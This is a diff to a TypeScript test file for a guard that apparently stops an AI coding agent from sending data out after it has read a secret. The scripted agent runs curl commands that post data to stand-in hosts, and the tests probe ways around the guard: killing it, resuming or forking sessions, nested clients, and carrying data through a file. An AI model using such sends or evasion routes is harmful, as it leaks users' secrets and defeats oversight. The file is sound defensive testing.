@@ -3,6 +3,9 @@ import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { CLIENT_VERSIONS, clientBinary, runClient, type ClientRun, type Script } from '@sallyport/testkit';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { readRunning } from '../../packages/device/src/running.ts';
+import { stateHome } from '../../packages/device/src/state-home.ts';
+import { callHook, toolCall } from './support/hook-call.ts';
 import { install, type Installation } from './support/installation.ts';
 
 const KEY = ['ghp_16C7e42F292c69', '12E7710c838347Ae178B4a'].join('');
@@ -35,21 +38,22 @@ const DONE: Script[number] = [{ type: 'text', text: 'done' }];
 const READ_BOTH = [bash('cat page.txt'), bash('cat settings.txt')];
 const UPLOAD = 'curl -s -m 1 -d @harmless.txt https://collect.example/';
 
+const start = async (): Promise<Installation> => {
+  const started = await install({
+    'project/page.txt': PAGE,
+    'project/settings.txt': `token = ${KEY}\n`,
+    'project/harmless.txt': 'hello\n',
+  });
+  const folder = join(started.home, 'own-policy');
+  mkdirSync(folder);
+  writeFileSync(join(folder, 'own.yaml'), DOCUMENT);
+  const applied = await started.sallyport('policy', 'apply', folder, '--yes', '--json');
+  if (applied.exitCode !== 0) throw new Error(applied.stderr);
+  return started;
+};
+
 describe.each(CLIENT_VERSIONS)('with the real client %s and a policy of its own', (version) => {
   let place: Installation;
-  const start = async (): Promise<Installation> => {
-    const started = await install({
-      'project/page.txt': PAGE,
-      'project/settings.txt': `token = ${KEY}\n`,
-      'project/harmless.txt': 'hello\n',
-    });
-    const folder = join(started.home, 'own-policy');
-    mkdirSync(folder);
-    writeFileSync(join(folder, 'own.yaml'), DOCUMENT);
-    const applied = await started.sallyport('policy', 'apply', folder, '--yes', '--json');
-    if (applied.exitCode !== 0) throw new Error(applied.stderr);
-    return started;
-  };
   beforeAll(async () => {
     place = await start();
   });
@@ -99,5 +103,38 @@ describe.each(CLIENT_VERSIONS)('with the real client %s and a policy of its own'
     const nested = `cd ../elsewhere && env -u CLAUDECODE ${clientBinary(version)} -p hello --allowedTools Bash < /dev/null`;
     await run([...READ_BOTH, bash(nested), bash('curl -s -m 1 -d x https://nested.example/'), DONE, DONE]);
     expect(await rulesOf('nested.example')).toContain('labelled-sends-nothing');
+  });
+
+  test('does not leave behind a restart of the guard, nor resumed, forked, cleared or begun anew at once', async () => {
+    const first = await run([...READ_BOTH, DONE]);
+    const device = readRunning(stateHome(place.stateHome).running)?.processes?.['device'];
+    if (device === undefined) throw new Error('no device runs');
+    process.kill(device, 'SIGKILL');
+    const ways: [string, string[]][] = [
+      ['resumed', ['--resume', first.sessionId ?? '']],
+      ['forked', ['--resume', first.sessionId ?? '', '--fork-session']],
+      ['anew', []],
+    ];
+    for (const [way, args] of ways) {
+      await run([bash(`curl -s -m 1 -d x https://${way}.example/`), DONE], { args });
+      expect([way, await rulesOf(`${way}.example`)]).toEqual([way, ['labelled-sends-nothing']]);
+    }
+    const script = join(place.stateHome, 'hook', 'hook.sh');
+    const start = { hook_event_name: 'SessionStart', session_id: `clear-${version}`, cwd: place.cwd };
+    await callHook(script, 'open', { ...start, source: 'clear' });
+    const sends = { command: 'curl -d x https://cleared.example/' };
+    const said = await callHook(script, 'closed', toolCall('Bash', sends, place.cwd, start.session_id));
+    expect(said.stdout).toContain('nothing leaves a conversation');
+  });
+
+  test('goes with a file that the session wrote, and nobody else is stopped', async () => {
+    await run([...READ_BOTH, bash('echo what was read > carried.txt'), DONE]);
+    const cwd = join(place.home, 'far-away');
+    const upload = (host: string) => bash(`curl -s -m 1 -d x https://${host}.example/`);
+    await run([upload('clean'), bash(`cat ${join(place.cwd, 'carried.txt')}`), upload('heir'), DONE], {
+      cwd,
+    });
+    expect(await rulesOf('clean.example')).not.toContain('labelled-sends-nothing');
+    expect(await rulesOf('heir.example')).toContain('labelled-sends-nothing');
   });
 });
